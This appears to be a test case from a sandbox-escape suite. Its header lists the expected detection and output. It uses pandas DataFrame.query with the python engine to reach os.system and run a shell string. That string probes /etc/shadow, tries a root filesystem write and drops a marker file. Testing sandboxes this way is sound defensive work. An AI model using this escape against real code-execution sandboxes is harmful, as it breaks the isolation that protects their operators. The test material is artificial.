# row: B31
# attack: A name-resolving expression engine in an allowed library: pandas `DataFrame.query()` with the
#   python engine resolves `@pd` and walks `pd.io.common.os.system` at run time, then calls it.
# v-on-finding: rule=expression.attribute source=ast
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B31_pandas_query_local_reference
# limits: wall_time_s=10
import pandas as pd

SHELL = (
    "echo 'system() reached'; id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B31_pandas_query_local_reference"
)


frame = pd.DataFrame({"a": [1]})
try:
    print("DataFrame.query('@pd.io.common.os.system(SHELL)')", flush=True)
    result = frame.query("@pd.io.common.os.system(@SHELL)", engine="python")
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"query() returned {result!r}")
